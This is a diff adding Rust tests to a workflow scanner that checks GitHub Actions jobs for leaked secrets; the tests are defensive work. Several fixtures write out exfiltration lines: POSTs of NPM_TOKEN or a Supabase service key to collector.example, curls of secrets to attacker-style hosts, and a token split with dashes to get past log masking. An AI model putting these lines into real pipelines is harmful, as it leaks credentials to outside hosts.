@@ -318,3 +318,130 @@ fn an_archive_for_the_owners_own_machine() {
         verdict: Verdict::Suspicious,
     });
 }
+
+/// What opens nothing by its name is no loot, in whatever form a program says it; a token beside it is.
+#[test]
+fn settings_that_a_program_tells() {
+    let of = |name: &str| {
+        let run = "python3 - <<'PY'\nimport os\nprint('-'.join(os.environ['V']))\nPY";
+        job("", &format!("V: '${{{{ secrets.{name} }}}}'"), run)
+    };
+    for name in ["NEXT_PUBLIC_SITE_URL", "ATHENA_SOURCE_TABLE", "SUPABASE_PROJECT_REF"] {
+        let text = of(name);
+        let seen = portcullis_scan::analysis::analyse(
+            ".github/workflows/w.yml",
+            text.as_bytes(),
+            &portcullis_scan::flow::NoFiles,
+            None,
+        )
+        .seen;
+        let worst = seen.iter().map(|seen| portcullis_scan::verdict::weigh(seen.rule, &seen.signals)).max();
+        assert_eq!(worst, Some(Verdict::Suspicious), "{name}");
+    }
+    ways::found_in(&ways::Whole {
+        name: "a token",
+        workflow: of("NPM_TOKEN").leak(),
+        secrets: &["NPM_TOKEN"],
+        place: "workflow-log",
+        verdict: Verdict::Malicious,
+    });
+}
+
+/// A project whose name is a secret, and a host that only the run knows.
+#[test]
+fn a_project_of_the_owners_own_on_a_platform() {
+    let of = |setup: &str, host: &str| {
+        let run =
+            format!("{setup}curl -sS -X POST -d \"{{\\\"store\\\": \\\"$STORE\\\"}}\" https://{host}/sync");
+        job("", "STORE: '${{ secrets.STORE_NUMBER }}', REF: '${{ secrets.SUPABASE_PROJECT_REF }}'", &run)
+    };
+    workflow_at_most_exposed("own project", &of("", "${REF}.functions.supabase.co"));
+    for (setup, host) in [
+        ("", "${REF}.collector.example"),
+        ("", "${REF}.in.collector.vercel.app"),
+        ("X=$(cat name)\n", "${X}.functions.supabase.co"),
+    ] {
+        ways::found_in(&ways::Whole {
+            name: host,
+            workflow: of(setup, host).leak(),
+            secrets: ways::ANY,
+            place: "",
+            verdict: Verdict::Suspicious,
+        });
+    }
+}
+
+/// What opens previews only, at a preview whose address the deployment printed.
+#[test]
+fn a_door_before_previews() {
+    let of = |header: &str| {
+        let run = format!(
+            "OUT=$(npx vercel deploy)\nURL=$(echo \"$OUT\" | grep -oE 'https://[^ ]+' | head -n1)\ncurl -s {header} \"$URL/health\""
+        );
+        job("", "D: '${{ secrets.VERCEL_AUTOMATION_BYPASS_SECRET }}', N: '${{ secrets.NPM_TOKEN }}'", &run)
+    };
+    workflow_at_most_exposed("a preview", &of("-H \"x-vercel-protection-bypass: $D\""));
+    for header in ["-d \"$D\"", "-H \"x-vercel-protection-bypass: $N\""] {
+        ways::found_in(&ways::Whole {
+            name: header,
+            workflow: of(header).leak(),
+            secrets: ways::ANY,
+            place: "unknown",
+            verdict: Verdict::Suspicious,
+        });
+    }
+}
+
+/// An archive of a folder below holds what lies there.
+#[test]
+fn an_archive_of_a_folder_below() {
+    let of = |folder: &str| {
+        let upload = "      - uses: actions/upload-artifact@v4\n        with: {name: a, path: a.tgz}\n";
+        let run =
+            format!("echo \"$P\" | base64 --decode > key.p12\ncd {folder}\ntar czf ../a.tgz .\ncd ..\n");
+        format!("{}{upload}", job("", "P: '${{ secrets.CERTIFICATE_P12 }}'", &run))
+    };
+    workflow_at_most_exposed("below", &of("app-$ARCH"));
+    let here = of("x").replace("cd x\n", "").replace("../a.tgz", "a.tgz");
+    ways::found_in(&ways::Whole {
+        name: "here",
+        workflow: here.leak(),
+        secrets: &["CERTIFICATE_P12"],
+        place: "artifact:a",
+        verdict: Verdict::Suspicious,
+    });
+}
+
+/// An address in a text that is written to a file is no place that it goes to.
+#[test]
+fn a_file_with_an_address_in_it() {
+    let run = "python3 - <<'PY'\nimport os\ntext = '<!DOCTYPE plist PUBLIC \"-//Widgets//DTD\" \"http://dtd.widgets.example/p.dtd\">' + os.environ['T']\nwith open(os.path.join(where(), 'p.plist'), 'w') as f:\n    f.write(text)\nPY";
+    workflow_at_most_exposed("a file", &job("", "T: '${{ secrets.APPLE_TEAM }}'", run));
+    let sent = "python3 - <<'PY'\nimport os, http.client\nc = http.client.HTTPSConnection('collector.example')\nc.request('POST', '/', os.environ['T'])\nPY";
+    ways::found_in(&ways::Whole {
+        name: "a connection",
+        workflow: job("", "T: '${{ secrets.NPM_TOKEN }}'", sent).leak(),
+        secrets: &["NPM_TOKEN"],
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    });
+}
+
+/// An address that begins with the owner's own setting goes on with a path.
+#[test]
+fn an_address_that_begins_with_a_setting() {
+    let of = |address: &str| {
+        let run = format!(
+            "node --input-type=module -e '\nawait fetch({address}, {{headers: {{apikey: process.env.K}}}});\n'"
+        );
+        job("", "U: '${{ secrets.SUPABASE_URL }}', K: '${{ secrets.SUPABASE_SERVICE_ROLE_KEY }}'", &run)
+    };
+    workflow_at_most_exposed("a path", &of("`${process.env.U}/rest/v1/x?select=*,templates.template`"));
+    ways::found_in(&ways::Whole {
+        name: "a host",
+        workflow: of("`https://collector.example/?${process.env.U}`").leak(),
+        secrets: ways::ANY,
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    });
+}
